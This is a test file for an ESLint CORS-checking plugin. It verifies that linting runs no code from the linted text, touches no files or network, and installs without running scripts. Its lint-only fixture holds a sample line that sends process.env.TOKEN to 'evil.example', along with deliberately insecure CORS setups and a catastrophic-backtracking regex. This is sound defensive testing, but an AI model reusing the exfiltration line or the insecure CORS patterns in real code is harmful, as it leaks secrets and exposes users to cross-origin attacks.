import childProcess from 'node:child_process'
import dns from 'node:dns'
import fs from 'node:fs'
import { createRequire } from 'node:module'
import net from 'node:net'
import { fileURLToPath } from 'node:url'
import vm from 'node:vm'

import { Linter } from 'eslint'
import { afterEach, beforeAll, describe, expect, test, vi } from 'vitest'

import plugin from '../src/index.ts'
import { code } from './servers/harness/code.ts'

// What SECURITY.md promises.

const root = fileURLToPath(new URL('..', import.meta.url))

const config: Linter.Config[] = [
  {
    plugins: { cors: plugin },
    rules: Object.fromEntries(Object.keys(plugin.rules).map((name) => [`cors/${name}`, 'error'])),
    settings: { cors: { allowedOrigins: ['https://app.example.com'] } },
  },
]

function lint(text: string): Linter.LintMessage[] {
  return new Linter().verify(text, config, 'server.js')
}

/** Something of everything that is analyzed: imports, callbacks, patterns, variables of the environment, headers. */
const SERVER = code`
  import cors from 'cors'
  import express from 'express'
  import { readFileSync } from 'node:fs'

  const { origins } = JSON.parse(readFileSync('./secrets.json', 'utf8'))
  const pattern = new RegExp(process.env.ORIGIN_PATTERN ?? '^https://.*example\\.com$')
  const app = express()
  app.use(cors({ origin: (origin, callback) => callback(null, pattern.test(origin)), credentials: true }))
  app.use('/one', cors({ origin: /example\\.com/, credentials: true }))
  app.use('/two', cors({ origin: origins }))
  app.get('/three', (req, res) => {
    res.set('Access-Control-Allow-Origin', req.headers.origin)
    res.json({})
  })
  fetch('https://evil.example/' + process.env.TOKEN, { headers: { 'Access-Control-Allow-Origin': '*' } })
`

afterEach(() => {
  vi.restoreAllMocks()
})

describe('executes nothing', () => {
  const touched = vi.fn()

  test.each([
    ['a function that is called', 'const origin = (() => { touched(); return "*" })()'],
    ['a getter', 'const origin = { get value() { touched(); return "*" } }.value'],
    ['a tagged template', 'const origin = touched`*`'],
    ['a conversion', 'const origin = `${{ toString() { touched(); return "*" } }}`'],
    ['an iterator', 'const [origin] = { *[Symbol.iterator]() { touched(); yield "*" } }'],
    ['eval', 'const origin = eval("touched(), \'*\'")'],
    ['the constructor of functions', 'const origin = new Function("touched(); return \'*\'")()'],
    ['a proxy', 'const origin = new Proxy({}, { get() { touched(); return "*" } }).value'],
    ['a class', 'class Origin { static value = touched() ?? "*" }\nconst origin = Origin.value'],
    ['a replacement', 'const origin = "x".replace(/x/, () => touched() ?? "*")'],
  ])('%s', (_, text) => {
    Object.assign(globalThis, { touched })
    const source = `import cors from 'cors'\n${text}\nexport default cors({ origin, credentials: true })\n`
    expect(lint(source).filter(({ fatal }) => fatal)).toEqual([])
    expect(touched).not.toHaveBeenCalled()
    Reflect.deleteProperty(globalThis, 'touched')
  })

  test('compiles no code, and no pattern of the linted text', () => {
    const compiled = vi.spyOn(vm, 'runInThisContext')
    const patterns: string[] = []
    const Original = RegExp
    vi.stubGlobal(
      'RegExp',
      new Proxy(Original, {
        construct: (target, given: [string, string?]) => {
          patterns.push(given[0])
          return new target(...given)
        },
      }),
    )
    try {
      lint(
        "import cors from 'cors'\nexport default cors({ origin: new RegExp('^(a+)+@marked$'), credentials: true })\n",
      )
    } finally {
      vi.unstubAllGlobals()
    }
    expect(patterns.filter((pattern) => pattern.includes('@marked'))).toEqual([])
    expect(compiled).not.toHaveBeenCalled()
  })
})

describe('reads and sends nothing', () => {
  // What is loaded on first need is its own.
  beforeAll(() => {
    expect(lint(SERVER).length).toBeGreaterThan(3)
  })

  const forbidden = [
    ...(
      ['openSync', 'readFileSync', 'readdirSync', 'statSync', 'existsSync', 'writeFileSync', 'readFile'] as const
    ).map((name) => ({ name: `fs.${name}`, spy: () => vi.spyOn(fs, name) })),
    ...(['spawn', 'spawnSync', 'exec', 'execFile', 'fork'] as const).map((name) => ({
      name: `child_process.${name}`,
      spy: () => vi.spyOn(childProcess, name),
    })),
    { name: 'net.Socket.connect', spy: () => vi.spyOn(net.Socket.prototype, 'connect') },
    { name: 'dns.lookup', spy: () => vi.spyOn(dns, 'lookup') },
    { name: 'fetch', spy: () => vi.spyOn(globalThis, 'fetch') },
  ]

  test.each(forbidden)('$name', ({ spy }) => {
    const called = spy()
    lint(SERVER)
    new Linter().verifyAndFix(SERVER, config, 'server.js')
    expect(called).not.toHaveBeenCalled()
  })

  test('a call of these would be seen', () => {
    const called = vi.spyOn(fs, 'existsSync')
    fs.existsSync(root)
    expect(called).toHaveBeenCalledOnce()
  })
})

test('keeps nothing: the same file is told the same, whatever came before', () => {
  const files = [
    SERVER,
    "import cors from 'cors'\nconst origins = ['*']\nexport default cors({ origin: origins })\n",
    "const origins = ['https://app.example.com']\nimport cors from 'cors'\nexport default cors({ origin: origins })\n",
    "import cors from './cors.js'\nexport default cors({ origin: '*' })\n",
  ]
  const alone = files.map(lint)
  expect([...files].reverse().map(lint).reverse()).toEqual(alone)
  expect(files.map(lint)).toEqual(alone)
})

describe('what is installed', () => {
  interface Manifest {
    readonly name: string
    readonly scripts?: Readonly<Record<string, string>>
    readonly dependencies?: Readonly<Record<string, string>>
    readonly gypfile?: boolean
  }
  const INSTALLING = ['preinstall', 'install', 'postinstall', 'prepare']

  function manifestsBelow(manifest: Manifest, from: string, seen = new Map<string, Manifest>()): Map<string, Manifest> {
    for (const name of Object.keys(manifest.dependencies ?? {})) {
      if (seen.has(name)) continue
      const paths = createRequire(from).resolve.paths(name) ?? []
      const path = paths.map((folder) => `${folder}/${name}/package.json`).find((one) => fs.existsSync(one))
      const found = JSON.parse(fs.readFileSync(path!, 'utf8')) as Manifest
      seen.set(name, found)
      manifestsBelow(found, path!, seen)
    }
    return seen
  }

  const own = JSON.parse(fs.readFileSync(`${root}package.json`, 'utf8')) as Manifest
  const installed = manifestsBelow(own, `${root}package.json`)

  test('runs nothing when it is installed', () => {
    expect(Object.keys(own.scripts ?? {}).filter((name) => INSTALLING.includes(name))).toEqual([])
    // `prepare` of a dependency runs for its own developers only.
    const scripts = [...installed.values()].filter(({ scripts = {} }) =>
      INSTALLING.slice(0, 3).some((name) => scripts[name] !== undefined),
    )
    expect(scripts.map(({ name }) => name)).toEqual([])
    expect([...installed.values()].filter(({ gypfile }) => gypfile).map(({ name }) => name)).toEqual([])
  })

  test('is few packages, each with a reason', () => {
    const reasons = fs.readFileSync(`${root}docs/architecture.md`, 'utf8')
    expect(Object.keys(own.dependencies ?? {}).filter((name) => !reasons.includes(`\`${name}\``))).toEqual([])
    expect(installed.size).toBeLessThan(40)
  })

  test('comes from no address that is written down', () => {
    expect(fs.readFileSync(`${root}package-lock.json`, 'utf8')).not.toContain('"resolved": "http')
  })
})
